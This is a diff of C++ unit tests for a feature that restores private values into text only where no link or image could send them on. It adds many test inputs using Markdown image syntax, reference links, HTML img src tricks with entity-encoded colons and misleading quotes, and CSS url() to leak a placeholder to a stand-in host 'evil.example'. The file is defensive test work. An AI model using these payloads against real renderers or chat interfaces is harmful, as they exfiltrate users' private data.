@@ -63,8 +63,73 @@ TEST_F(RestoredTextTest, NothingIsPutWhereItMightBeSentOn) {
            "> - [1]: <https:evil?a b[NAME_001]>",
            "\\href{https://evil/?[NAME_001]}{x}",
            "url(//evil/[NAME_001])",
+           "http:evil.example?[NAME_001]",
+           "HTTPS:evil.example?[NAME_001]",
+           "(https:evil.example?[NAME_001])",
+           "(www.evil.example/[NAME_001])",
+           // Targets that stand on the next line. With an entity no other rule finds them.
+           "![x](\nhttps:evil.example?[NAME_001])",
+           "![x](\nhttps&colon;evil.example?[NAME_001])",
+           "![x](\n< https:evil?[NAME_001]>)",
+           "![x](\n< https&colon;evil?a) [NAME_001]>)",
+           "> ![x](\n> < https&colon;evil?a) [NAME_001]>)",
+           "[a](b ![x](< https&colon;evil?))) [NAME_001]>)",
+           "[a](<b ![x](https&colon;evil?(>)[NAME_001])",
+           "[x]:\nhttps:evil.example?[NAME_001]\n\n![][x]",
+           "[x]:\r\nhttps&colon;evil.example?[NAME_001]\r\n\r\n![][x]",
+           "> [x]:\n> https&colon;evil.example?[NAME_001]",
+           // Labels that do not begin their line.
+           "1. [x]: https:evil.example?[NAME_001]",
+           "1) - [x]: https&colon;evil.example?[NAME_001]",
+           "[a\nb]: https&colon;evil.example?[NAME_001]",
+           "[^1]: [x]:\nhttps&colon;evil.example?[NAME_001]",
+           // Tags that seem to end before they do.
+           "<div><img a\"=\"x>\" src=\"https:evil.example?[NAME_001]\">",
+           "<div><img a\"=\"x>\" src=\"https&colon;evil.example? [NAME_001]\">",
+           "<div><img a\n=\n'x>' src='https&colon;evil.example? [NAME_001]'>",
+           "<div><img a=b\fc=\"x>\" src=\"https&colon;evil.example? [NAME_001]\">",
+           // Quotation marks that open nothing, so that the next one does.
+           "<div><a b=c=\"> <img src=\"https&colon;evil?> [NAME_001]\">",
+           "<div><a =\"> <img src=\"https&colon;evil?> [NAME_001]\">",
+           "<div><a=\"> <img src=\"https&colon;evil?> [NAME_001]\">",
+           "<div><a b/=\"> <img src=\"https&colon;evil?> [NAME_001]\">",
+           // Tags in what only seems to be one.
+           "<style><a b=\"</style><img src=\"https&colon;evil?> [NAME_001]\">",
+           "<!-- > <a b=\"--><img src=\"https&colon;evil?> [NAME_001]\">",
+           // Quotation marks that Markdown writes as entities.
+           "<div><img src=\"https&colon;evil?\n\n\"> [NAME_001]\n\n<div>\">",
+           "<!-- --><img src=\"https&colon;evil?\n\"> [NAME_001]\n\n<div>\">",
+           "<[NAME_003] style=\"background:url(https&colon;evil?[NAME_001])\">",
        }) {
     EXPECT_EQ(seen(text), text);
+  }
+}
+
+TEST_F(RestoredTextTest, OrdinaryTextHasItsValues) {
+  for (const std::string text : {
+           "Dear [NAME_001],\n\nI am late.\n\n[NAME_001]",
+           "He said: \"[NAME_001]\", and 'so did [NAME_001]'",
+           "**Note**: [NAME_001]",
+           "1. Name: [NAME_001]\n2. [NAME_001]",
+           "You reach [NAME_001]: [NAME_001]",
+           "联系[NAME_001]: [NAME_001]",
+           "Ask Ann <[NAME_001]>, or [NAME_001]",
+           "by http or https: [NAME_001]",
+           "[1]: https://lee.org\nDear [NAME_001]",
+           "[1]:\nhttps://lee.org\nDear [NAME_001]",
+           "Of [1]:\n\nDear [NAME_001]",
+           "[the page](\n  https://lee.org/a_(b)) of [NAME_001]",
+           "f[i](x\n\n[NAME_001]",
+           "<p class=\"a\" id = 'b>' hidden>[NAME_001]</p>, <br/>[NAME_001]",
+           "<!DOCTYPE html>\n<!-- It's a page -->\n<p>[NAME_001]</p>",
+           "Map<String, List<String>> of(\"[NAME_001]\")",
+       }) {
+    std::string expected = text;
+    constexpr std::string_view kPlaceholder = "[NAME_001]";
+    for (std::size_t at = 0; (at = expected.find(kPlaceholder)) != std::string::npos;) {
+      expected.replace(at, kPlaceholder.size(), "Ann Lee");
+    }
+    EXPECT_EQ(seen(text), expected);
   }
 }
 
@@ -80,6 +145,16 @@ TEST_F(RestoredTextTest, AHostileTargetFillsNoMemory) {
 TEST_F(RestoredTextTest, InJsonValuesAreEscaped) {
   EXPECT_EQ(restored(R"({"to": "[NAME_002]"})", placeholders_, /*in_json=*/true),
             R"({"to": "Zoë \"Z\" 日本"})");
+  EXPECT_EQ(restored(R"({"a": "[x]: [NAME_001]", "b": "<p id=\"x\">[NAME_001]"})", placeholders_,
+                     /*in_json=*/true),
+            R"({"a": "[x]: [NAME_001]", "b": "<p id=\"x\">Ann Lee"})");
+  for (const std::string text : {
+           R"({"a": "<img alt=\"> \" src=\"https&colon;evil? [NAME_001]\">"})",
+           R"({"a": "<img a=b\nc=\"x>\" src=\"https&colon;evil? [NAME_001]\">"})",
+           R"({"a": "<img alt=\u0022> \u0022 src=\u0022https&colon;evil? [NAME_001]\u0022>"})",
+       }) {
+    EXPECT_EQ(restored(text, placeholders_, /*in_json=*/true), text);
+  }
 }
 
 // However the text comes in pieces, and is taken back, the reader has the same in the end.
